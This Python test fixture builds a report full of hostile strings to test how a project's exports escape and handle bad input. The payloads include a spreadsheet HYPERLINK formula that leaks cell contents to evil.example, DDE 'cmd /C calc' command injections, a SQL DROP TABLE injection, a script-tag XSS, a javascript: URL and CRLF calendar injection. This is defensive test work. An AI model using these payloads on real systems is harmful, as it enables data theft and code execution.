"""Answers for the exports: one whose reports hold all that has ever broken a format, made by hand."""

from __future__ import annotations

from dataclasses import replace

from tests.tell import factory

from lagebild.core import Answer, Cite, Event, Happening, Marked, Marks, Name, Part, Reading, Span, Statement, Time

EVIL = (
    '=HYPERLINK("http://evil.example/?x="&A1,"klick")\t\'; DROP TABLE x;--\x00\x07\u202eפרעה\u200f 😀👩‍👩‍👧 '
    "<script>alert(1)</script>&amp;</p>]]>\\,;:\n@SUM(1+1)*cmd|' /C calc'!A0 \ud800 e\u0301 \uffff \u2028ende"
)
"""Quotes, a formula, controls, NUL, right-to-left marks, emoji, markup, line ends, a lone surrogate."""

HOSTILE_TITLE = "-2+3+cmd|' /C calc'!A0 \x00 \u202eevil\r\nBEGIN:VEVENT\r\n\ud83d"


def hostile() -> Answer:
    """The factory's answer with a report full of EVIL: as its text, its marks, its title, its publisher, an entity's
    name, and the place of a happening."""
    made = factory.answer()
    was = next(m for m in made.links.marked if m.reading.document.id == "doc-fixed").reading
    text = was.text + "\n" + EVIL
    at = Span(len(was.text) + 1, len(text))
    document = replace(
        was.document, title=HOSTILE_TITLE, publisher=EVIL, author=EVIL, url="javascript:alert(1)\n", source=EVIL,
        published="2023-01-02/2023-01-05", published_by="inferred", fetched="2023-01-09T12:00:00+00:00",
    )  # fmt: skip
    reading = Reading(
        document, 1, text, (was.parts[0], Part(Span(was.parts[1].span.start, len(text)), "body", "de")), "de"
    )
    marks = Marks(
        times=(Time(id="t1", span=at, by="times/1", type="DATE", value=EVIL, earliest="2023-01-01"),),
        names=(
            Name(id="n1", span=at, by="names/1", kind="place", entity="e:evil", lat=-12.5, lon=179.99, radius_km=7),
        ),
        statements=(Statement(id="s1", span=at, by="statements/1", spans=(at,), kind="direct", speaker=(at,)),),
        events=(Event(id="e9", span=at, by="events/1", type="ASSAULT", factuality="possible"),),
    )
    evil = Happening(
        id="h-evil", type="ASSAULT", mode=None, actors=("e:marosawa",), recipients=(), place="e:evil",
        earliest="2023-01-04T22:30", latest="2023-01-05T02:00", factuality="possible",
        mentions=(Cite("doc-fixed", 1, at, "e9"),), origins=("o-fixed",), known="2023-01-05",
    )  # fmt: skip
    marked = tuple(Marked(reading, marks) if m.reading.document.id == "doc-fixed" else m for m in made.links.marked)
    entities = tuple(
        replace(e, name=EVIL, aliases=(EVIL[::-1], "", "=1+1")) if e.id == "e:marosawa" else e
        for e in made.links.entities
    )
    place = replace(made.links.entities[0], id="e:evil", kind="place", name=EVIL)
    links = replace(
        made.links, marked=marked, entities=tuple(sorted((*entities, place), key=lambda e: e.id)),
        happenings=tuple(sorted((*made.links.happenings, evil), key=lambda h: h.id)),
    )  # fmt: skip
    return replace(made, links=links, question=replace(made.question, text=EVIL, id="böse\nfrage"))
